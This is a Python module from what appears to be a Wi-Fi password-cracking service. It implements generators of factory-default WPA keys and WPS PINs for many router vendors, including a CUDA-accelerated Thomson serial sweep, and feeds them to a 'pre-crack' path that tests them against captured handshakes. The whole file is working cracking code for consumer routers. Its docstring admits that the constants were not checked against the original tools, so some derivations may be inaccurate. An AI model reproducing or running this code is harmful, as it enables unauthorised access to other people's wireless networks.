"""Vendor default-key generators (routerkeygen-cli equivalent).

The reference server shells out to ``routerkeygen-cli -q -k -m <mac>
-s <ssid>`` during keygen precompute (web/rkg.php:109) to derive the
factory-default WPA keys many routers ship with.  That Qt/C++ binary is
external to the repo; this module provides the same capability as native
generators, each implementing a publicly documented default-key scheme:

- ``thomson``   — Thomson/SpeedTouch serial-space SHA-1 search (Kevin
  Devine's "stkeys" attack, 2008): the default key and the SSID suffix
  are both digests of the manufacturing serial, so the ~22M serial space
  is searched for serials whose digest tail matches the SSID.  The
  search runs as a batched single-block SHA-1 sweep on the CUDA card
  (reusing ops/sha1), with a hashlib search on hosts without one.
- ``belkin``    — Belkin's per-nibble substitution of the WAN MAC
  (Jakob Lell's 2012 writeup): 8 key chars drawn from a 16-char charset
  indexed by a fixed permutation of the MAC's last 8 nibbles.
- ``easybox``   — Arcadyan/Vodafone EasyBox MAC-derived 9-hex-digit key
  (structure per Stefan Viehböck's 2012 advisory: mix the decimal and
  hex digits of the MAC's last two bytes through two mod-16 sums).
- ``mac_tail``  — the "key is printed from the radio MAC" family common
  on budget APs (Tenda et al.): hex tails/decimalizations of BSSID±1.
- ``imei_hotspot`` — mobile-hotspot default keys derived from the device
  IMEI (imeigen-equivalent, gen/imei.py) for tethering SSID prefixes,
  sweeping a small set of common TACs per prefix.
- ``zyxel``     — ZyXEL CPE: first 20 hex chars of MD5 over the
  uppercase MAC string (routerkeygen ZyxelKeygen disposition).
- ``sky``       — Sky SKYxxxxx units: 8 A-Z letters mapped from an MD5
  of the MAC (routerkeygen SkyKeygen disposition).
- ``comtrend``  — Spanish WLAN_XXXX/JAZZTEL_XXXX: MD5 over the
  ``bcgbghgg`` magic + MAC prefix + SSID suffix + MAC (published 2010).
- ``eircom``    — Netopia "eircomXXXX XXXX": SHA-1 over the 8-digit
  serial + the published lyric constant, 26-hex WEP-shaped keys.
- ``alice_agpf``— Pirelli Alice-XXXXXXXX: SHA-256 over a 32-byte magic
  + manufacturing serial + MAC -> 24 base-36 chars (white-hats-crew
  2009); the SSID->serial mapping tables are deployment data (the
  routerkeygen alice.xml equivalent) supplied via ``alice_configs``.
- ``mac_full``  — "the key is the MAC" vendors (Cabovisao CVTV,
  Megared, InterCable): full/10-char MAC hex in both cases.

Every generator yields ``(algo_name, candidate_bytes)`` pairs, the shape
the keygen-precompute seam expects (server/jobs.py keygen_precompute);
``vendor_candidates`` dispatches on SSID/BSSID and is the default plug-in.

Fidelity note: these schemes were published as reverse-engineering
results; constants follow the public writeups cited above, reproduced
from their descriptions (this build environment has no network access to
re-verify against the original tools, so the KAT vectors in
tests/test_vendors.py pin THIS implementation against regression rather
than third-party output).  Outputs are cheap *candidates* — the
precompute path verifies every one against the real handshake before
accepting it (web/rkg.php:126 equivalent), so an imperfect generator
costs a few wasted PBKDF2s, never a false accept.
"""

import hashlib
import re

from .imei import imei_candidates

# ---------------------------------------------------------------------------
# Thomson / SpeedTouch (stkeys)

#: SSID prefixes of Thomson-made CPE that used the serial-derived scheme.
THOMSON_SSID_RE = re.compile(
    rb"^(SpeedTouch|Thomson|BigPond|O2Wireless|Orange-|INFINITUM|BBox|"
    rb"DMAX|privat|CYTA|Blink)([0-9A-Fa-f]{6})$"
)
_CODE_CHARS = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"


def _thomson_serial(yy: int, ww: int, code: str) -> bytes:
    """Processed serial hashed by the scheme: CPYYWW + hex(code chars)."""
    return ("CP%02d%02d%s" % (yy, ww, code.encode().hex().upper())).encode()


def thomson_key(serial: bytes):
    """-> (ssid_suffix_hex, key) for one processed serial."""
    d = hashlib.sha1(serial).digest()
    return d[-3:].hex().upper(), d[:5].hex().upper().encode()


def thomson_candidates(ssid_suffix: str, years=range(4, 13), weeks=range(1, 54),
                       device=None):
    """Search the serial space for keys matching an SSID suffix.

    ``ssid_suffix``: the 6 hex chars after the vendor prefix.  Yields the
    default-key candidates (10 uppercase hex chars each).  ``device``:
    ``None`` sweeps on ``cuda:0`` iff a CUDA card is present, else in
    hashlib (the full 9-year space is ~22M SHA-1s, ~30 s on the host);
    ``True`` sweeps on ``cuda:0`` and raises without a card; ``False``
    searches in hashlib; a torch device or its name sweeps there.
    """
    target = ssid_suffix.upper()
    if device is None:
        device = _cuda_present()
    if device is not False:
        # True -> None, which resolve_device reads as cuda:0 (or raises)
        yield from _thomson_search_device(target, list(years), list(weeks),
                                          device=None if device is True else device)
        return
    for yy in years:
        for ww in weeks:
            for a in _CODE_CHARS:
                for b in _CODE_CHARS:
                    for c in _CODE_CHARS:
                        sfx, key = thomson_key(_thomson_serial(yy, ww, a + b + c))
                        if sfx == target:
                            yield key


def _cuda_present() -> bool:
    import torch

    return torch.cuda.is_available()


def _thomson_search_device(target: str, years, weeks, chunk: int = 1 << 20,
                           compress=None, device=None):
    """Device sweep: build serial blocks from an arange, one SHA-1 each.

    The 12-byte serial fits one padded block, so each candidate costs a
    single compression: the plain ``ops/sha1`` form as eager int32 torch
    ops (the sweep is a one-shot cron job; no kernel of its own).  The
    space is at most 9 x 53 x 36**3 serials (< 2**31), so int32 indices
    are exact.  One host sync per chunk (its hit indices).
    """
    import numpy as np
    import torch

    from ..ops.common import iv_state, shr32
    from ..ops.sha1 import IV, sha1_compress
    from ..parallel.device import resolve_device

    compress = compress or sha1_compress
    dev = resolve_device(device)
    yw = [(yy, ww) for yy in years for ww in weeks]
    ncodes = 36 ** 3
    tgt = int(target, 16)
    yw_arr = torch.tensor(yw, dtype=torch.int32, device=dev).reshape(-1, 2)

    def sweep(base, n):
        i = base + torch.arange(n, dtype=torch.int32, device=dev)
        code = i % ncodes
        ywi = (i // ncodes).long()
        yy = yw_arr[ywi, 0]
        ww = yw_arr[ywi, 1]

        def ascii36(v):  # 0..35 -> ASCII of the code char; 0..15 -> a hex digit
            return torch.where(v < 10, v + 48, v + 55)

        c = [ascii36(code // 36 ** (2 - k) % 36) for k in range(3)]
        # serial chars: 'C' 'P' y1 y2 w1 w2 then hex-expansion of c0 c1 c2
        # (every char is ASCII, so ch << 24 stays below 2**31)
        ch = [67, 80, yy // 10 + 48, yy % 10 + 48, ww // 10 + 48, ww % 10 + 48]
        for v in c:
            ch += [ascii36(v >> 4), ascii36(v & 15)]
        w0 = (ch[0] << 24) | (ch[1] << 16) | (ch[2] << 8) | ch[3]
        w1 = (ch[4] << 24) | (ch[5] << 16) | (ch[6] << 8) | ch[7]
        w2 = (ch[8] << 24) | (ch[9] << 16) | (ch[10] << 8) | ch[11]
        block = [w0, w1, w2, 0x80000000] + [0] * 11 + [12 * 8]
        st = compress(iv_state(IV, block), block)
        hit = (st[4] & 0xFFFFFF) == tgt
        return hit, st[0], shr32(st[1], 24)

    total = len(yw) * ncodes
    for base in range(0, total, chunk):
        n = min(chunk, total - base)
        hit, s0, s1 = sweep(base, n)
        idx = torch.nonzero(hit).flatten()   # the chunk's one sync
        if idx.numel():
            found = torch.stack([s0[idx], s1[idx]]).cpu().numpy().view(np.uint32)
            for a, b in found.T:
                yield ("%08X%02X" % (int(a), int(b))).encode()


# ---------------------------------------------------------------------------
# Belkin (per-nibble MAC substitution, Jakob Lell 2012)

def _mac_neighbours(bssid: bytes, offsets=(0, 1, -1)):
    """Uppercase 12-hex MAC strings for BSSID and its radio/WAN
    neighbours — the shared sweep of every MAC-derived family (vendors
    print the key from a MAC one or two off the beacon BSSID)."""
    base = int.from_bytes(bssid, "big")
    for off in offsets:
        yield format((base + off) & 0xFFFFFFFFFFFF, "012X")


BELKIN_SSID_RE = re.compile(rb"^(?:Belkin[._]|belkin\.)([0-9A-Fa-f]{3,6})$")
_BELKIN_CHARSET = "024613578ACE9BDF"
_BELKIN_ORDER = (6, 2, 3, 8, 5, 1, 7, 4)  # 1-indexed into the last 8 nibbles


def belkin_keys(bssid: bytes):
    """Default keys for the WAN-MAC offsets Belkin units are seen with."""
    for mac in _mac_neighbours(bssid, offsets=(0, 1, 2, -1)):
        tail = mac[4:]
        yield "".join(
            _BELKIN_CHARSET[int(tail[p - 1], 16)] for p in _BELKIN_ORDER
        ).encode()


# ---------------------------------------------------------------------------
# Arcadyan / Vodafone EasyBox (Viehböck 2012)

EASYBOX_SSID_RE = re.compile(rb"^(?:EasyBox-|Arcor-|Vodafone)[0-9A-Fa-f]{6}$")


def easybox_keys(bssid: bytes):
    """9-hex-digit default key mixed from the MAC's last two bytes."""
    for mac in _mac_neighbours(bssid, offsets=(0, 1)):
        tail = mac[8:]
        sn = "%05d" % int(tail, 16)
        d = [int(ch) for ch in sn]
        h = [int(ch, 16) for ch in tail]
        k1 = (d[0] + d[1] + h[2] + h[3]) % 16
        k2 = (d[2] + d[3] + h[0] + h[1]) % 16
        digits = (
            k1 ^ d[4], k2 ^ h[1], h[2] ^ d[4],
            k1 ^ d[3], k2 ^ h[2], h[3] ^ d[1],
            k1 ^ d[2], k2 ^ h[3], k1 ^ k2,
        )
        yield "".join("%X" % (v & 0xF) for v in digits).encode()


# ---------------------------------------------------------------------------
# MAC-printed-on-the-label family (Tenda and friends)

MAC_TAIL_SSID_RE = re.compile(rb"^(?:Tenda_|TP-LINK_|FAST_|MERCURY_)", re.I)


def mac_tail_keys(bssid: bytes):
    """Decimalized-MAC default keys (BSSID±1, 8- and 10-digit widths).

    The hex-tail variants of this family are already produced by the
    Single generator that precompute runs first (server/jobs.py
    single_mode_candidates), so only the decimalizations are emitted here
    — duplicates would cost a second PBKDF2 verify each.
    """
    base = int.from_bytes(bssid, "big")
    for off in (0, 1, -1):
        v = (base + off) & 0xFFFFFFFFFFFF
        yield str(v % 10 ** 8).zfill(8).encode()
        yield str(v % 10 ** 10).zfill(10).encode()


# ---------------------------------------------------------------------------
# Zyxel (MD5 of the uppercase MAC string; routerkeygen's ZyxelKeygen
# disposition for ZyXEL-branded CPE)

ZYXEL_SSID_RE = re.compile(rb"^ZyXEL[0-9A-Fa-f]{6}$", re.I)


def zyxel_keys(bssid: bytes):
    """First 20 uppercase hex chars of MD5 over the uppercase MAC hex
    string, for BSSID and its radio/WAN neighbours."""
    for mac in _mac_neighbours(bssid):
        yield hashlib.md5(mac.encode()).hexdigest().upper()[:20].encode()


# ---------------------------------------------------------------------------
# Sky (Sagemcom-era SKYxxxxx: 8 A-Z letters from an MD5 of the MAC;
# routerkeygen's SkyKeygen disposition)

SKY_SSID_RE = re.compile(rb"^SKY[0-9]{5}$")


def sky_keys(bssid: bytes):
    for mac in _mac_neighbours(bssid):
        d = hashlib.md5(mac.encode()).digest()
        yield bytes(65 + b % 26 for b in d[:8])


# ---------------------------------------------------------------------------
# Comtrend (the Spanish WLAN_XXXX / JAZZTEL_XXXX scheme, published 2010:
# MD5 over the "bcgbghgg" magic + MAC prefix + SSID suffix + full MAC)

COMTREND_SSID_RE = re.compile(rb"^(?:WLAN|JAZZTEL)_([0-9A-Fa-f]{4})$")
_COMTREND_MAGIC = "bcgbghgg"


def comtrend_keys(bssid: bytes, ssid_suffix: str):
    suffix = ssid_suffix.upper()
    for mac in _mac_neighbours(bssid):
        seed = _COMTREND_MAGIC + mac[:8] + suffix + mac
        yield hashlib.md5(seed.encode()).hexdigest()[:20].encode()


# ---------------------------------------------------------------------------
# Eircom (Netopia-era "eircomXXXX XXXX": SHA-1 over the serial digits
# concatenated with the published lyric constant; WEP-shaped 26-hex
# keys, emitted because the precompute path verifies every candidate)

EIRCOM_SSID_RE = re.compile(rb"^eircom[0-9]{4} ?[0-9]{4}$")
_EIRCOM_SALT = "Although your world wonders me, "


def eircom_keys(bssid: bytes):
    mac24 = int.from_bytes(bssid[3:], "big")
    for off in (0, 1, -1):
        serial = "%08d" % ((mac24 + off) & 0xFFFFFF)
        digest = hashlib.sha1((serial + _EIRCOM_SALT).encode()).hexdigest()
        yield digest[:26].encode()


# ---------------------------------------------------------------------------
# Alice AGPF (Pirelli "Alice-XXXXXXXX", the 2009 white-hats-crew
# derivation: SHA-256 over a fixed 32-byte magic + manufacturing serial
# + MAC, mapped to 24 lowercase base-36 chars)

ALICE_SSID_RE = re.compile(rb"^Alice-([0-9]{8})$")
_ALICE_MAGIC = bytes((
    0x64, 0xC6, 0xDD, 0xE3, 0xE5, 0x79, 0xB6, 0xD9, 0x86, 0x96, 0x8D, 0x34,
    0x45, 0xD2, 0x3B, 0x15, 0xCA, 0xAF, 0x12, 0x84, 0x02, 0xAC, 0x56, 0x00,
    0x05, 0xCE, 0x20, 0x75, 0x91, 0x3F, 0xDC, 0xE8,
))
_ALICE_CHARSET = "0123456789abcdefghijklmnopqrstuvwxyz"

#: SSID-series -> serial-derivation entries (the deployment data
#: routerkeygen ships as alice.xml): {"96": [{"sn": "69102", "q": ..,
#: "k": ..}], ...}.  The mapping tables are ISP data, not algorithm;
#: deployments supply their own via vendor_candidates(alice_configs=...).
ALICE_CONFIGS = {}


def alice_agpf_key(serial: str, mac: bytes, magic: bytes = None,
                   charset: str = None, take: int = 24) -> bytes:
    """The core AGPF derivation for one (serial, MAC) pair.

    ``serial``: the full manufacturing serial, e.g. ``69102X0013305``.
    ``magic``/``charset``/``take`` default to the published Alice-Italy
    constants; the AGPF siblings that reuse this structure with other
    vendor seeds supply theirs via a deployment pack
    (gen/vendor_data.py ``serial_hash`` entries).
    """
    magic = _ALICE_MAGIC if magic is None else magic
    charset = _ALICE_CHARSET if charset is None else charset
    d = hashlib.sha256(magic + serial.encode() + mac).digest()
    return "".join(charset[b % len(charset)] for b in d[:take]).encode()


def alice_agpf_keys(ssid_digits: str, bssid: bytes, configs=None,
                    magic: bytes = None, charset: str = None,
                    take: int = 24):
    """Candidates for an Alice-XXXXXXXX SSID given serial-mapping config.

    Each config entry maps the SSID number S to a serial via
    ``sn + 'X' + %07d((S - q) / k)`` — the published AGPF structure.
    Entries whose (S - q) is not divisible by k do not apply.
    """
    configs = ALICE_CONFIGS if configs is None else configs
    s = int(ssid_digits)
    for entry in configs.get(ssid_digits[:2], []):
        q, k = entry["q"], entry["k"]
        # s < q would format a negative quotient into the serial — no
        # such device exists; skip rather than emit garbage candidates.
        if k <= 0 or s < q or (s - q) % k:
            continue
        serial = "%sX%07d" % (entry["sn"], (s - q) // k)
        base = int.from_bytes(bssid, "big")
        for off in (0, 1, -1):
            mac = ((base + off) & 0xFFFFFFFFFFFF).to_bytes(6, "big")
            yield alice_agpf_key(serial, mac, magic=magic,
                                 charset=charset, take=take)


# ---------------------------------------------------------------------------
# Full-MAC-as-key family (Cabovisao/Megared-style: the printed default
# key IS the device MAC, or its 10-char tail)

MAC_FULL_SSID_RE = re.compile(rb"^(?:CVTV|Megared|INTERCABLE)", re.I)


def mac_full_keys(bssid: bytes):
    seen = set()
    for umac in _mac_neighbours(bssid):
        mac = umac.lower()
        for cand in (mac.encode(), umac.encode(),
                     mac[2:].encode(), umac[2:].encode()):
            # all-decimal MACs make the case variants identical; each
            # duplicate would cost a wasted PBKDF2 verify downstream
            if cand not in seen:
                seen.add(cand)
                yield cand


# ---------------------------------------------------------------------------
# Mobile-hotspot IMEI keys (imeigen-equivalent)

HOTSPOT_SSID_RE = re.compile(
    rb"^(AndroidAP|MIFI|MiFi|4G-Gateway|4G Wi-?Fi|Alcatel|Franklin|"
    rb"Jetpack|Verizon-|ZTE|Coolpad|Moxee)", re.I,
)
#: A few common TACs per hotspot family keeps the sweep bounded; real
#: deployments extend this via the extra_generators seam.
HOTSPOT_TACS = ("35684610", "35404311", "86723604")


#: routers that print their WPS PIN as the default WPA key (TP-LINK WR
#: era, some D-Link/Netgear) — the SSID families where an 8-digit PIN
#: candidate is worth the PBKDF2
WPS_PIN_SSID_RE = re.compile(
    rb"^(?:TP-LINK_|D-?Link[-_]|NETGEAR[0-9]{2}$)", re.I
)

#: factory-default PINs shipped verbatim on many devices
WPS_STATIC_PINS = (b"12345670", b"00000000", b"12345678", b"88888888")


def wps_checksum_digit(pin7: int) -> int:
    """The WPS checksum digit (WSC spec §7.4.1): weights 3,1,3,1,...
    over the 7 data digits, most-significant first."""
    accum = 0
    t = pin7
    while t:
        accum += 3 * (t % 10)
        t //= 10
        accum += t % 10
        t //= 10
    return (10 - accum % 10) % 10


def wps_pin_keys(bssid: bytes):
    """Default-PIN candidates for the "WPS PIN is the WPA key" family.

    The widely shipped derivation (Viehböck's WPS attack writeups, and
    routerkeygen's ComputePIN dispositions): the 7 data digits are the
    NIC-specific last 24 bits of the MAC modulo 10^7, completed with the
    WSC checksum digit; BSSID±1 covers the radio/WAN MAC offset, and a
    handful of factory-static PINs ride along.
    """
    base = int.from_bytes(bssid[3:], "big")
    for delta in (0, 1, -1):
        pin7 = ((base + delta) & 0xFFFFFF) % 10_000_000
        yield b"%07d%d" % (pin7, wps_checksum_digit(pin7))
    yield from WPS_STATIC_PINS


def imei_hotspot_keys(limit_per_tac: int = 64):
    """A bounded slice of IMEI-derived keys for the precompute path.

    The full 10^6-serial sweep per TAC belongs to the client's targeted
    pass-1 (fed to the GPU engine); precompute only tries the low-serial
    slice where factory units cluster.
    """
    for tac in HOTSPOT_TACS:
        for i, cand in enumerate(imei_candidates(tac)):
            if i >= limit_per_tac:
                break
            yield cand


# ---------------------------------------------------------------------------
# Dispatch

def vendor_candidates(bssid: bytes, ssid: bytes, thomson_kw=None,
                      alice_configs=None, imei_limit: int = None):
    """The default ``extra_generators`` plug-in for keygen precompute.

    Yields ``(algo, candidate)`` pairs for every vendor family whose
    SSID/BSSID fingerprint matches (routerkeygen-cli dispatch equivalent,
    web/rkg.php:109).  ``imei_limit`` widens (or narrows) the per-TAC
    IMEI serial slice — the batched server pre-crack path absorbs a much
    deeper sweep than the per-candidate host loop the default budget was
    sized for.
    """
    m = THOMSON_SSID_RE.match(ssid)
    if m:
        # The serial sweep is ~22M SHA-1s, ~30 s/net in hashlib — so
        # without an explicit thomson_kw budget it only runs when a CUDA
        # card is present, keeping the cron job bounded on CPU-only
        # server hosts.
        kw = thomson_kw
        if kw is None:
            kw = {} if _cuda_present() else None
        if kw is not None:
            for key in thomson_candidates(m.group(2).decode(), **kw):
                yield ("Thomson", key)
    if BELKIN_SSID_RE.match(ssid):
        for key in belkin_keys(bssid):
            yield ("Belkin", key)
    if EASYBOX_SSID_RE.match(ssid):
        for key in easybox_keys(bssid):
            yield ("EasyBox", key)
    if MAC_TAIL_SSID_RE.match(ssid):
        for key in mac_tail_keys(bssid):
            yield ("MacTail", key)
    if WPS_PIN_SSID_RE.match(ssid):
        for key in wps_pin_keys(bssid):
            yield ("WPSPin", key)
    if HOTSPOT_SSID_RE.match(ssid):
        for key in (imei_hotspot_keys() if imei_limit is None
                    else imei_hotspot_keys(limit_per_tac=imei_limit)):
            yield ("IMEI", key)
    if ZYXEL_SSID_RE.match(ssid):
        for key in zyxel_keys(bssid):
            yield ("Zyxel", key)
    if SKY_SSID_RE.match(ssid):
        for key in sky_keys(bssid):
            yield ("Sky", key)
    m = COMTREND_SSID_RE.match(ssid)
    if m:
        for key in comtrend_keys(bssid, m.group(1).decode()):
            yield ("Comtrend", key)
    if EIRCOM_SSID_RE.match(ssid):
        for key in eircom_keys(bssid):
            yield ("Eircom", key)
    m = ALICE_SSID_RE.match(ssid)
    if m:
        for key in alice_agpf_keys(m.group(1).decode(), bssid,
                                   configs=alice_configs):
            yield ("AliceAGPF", key)
    if MAC_FULL_SSID_RE.match(ssid):
        for key in mac_full_keys(bssid):
            yield ("MacFull", key)
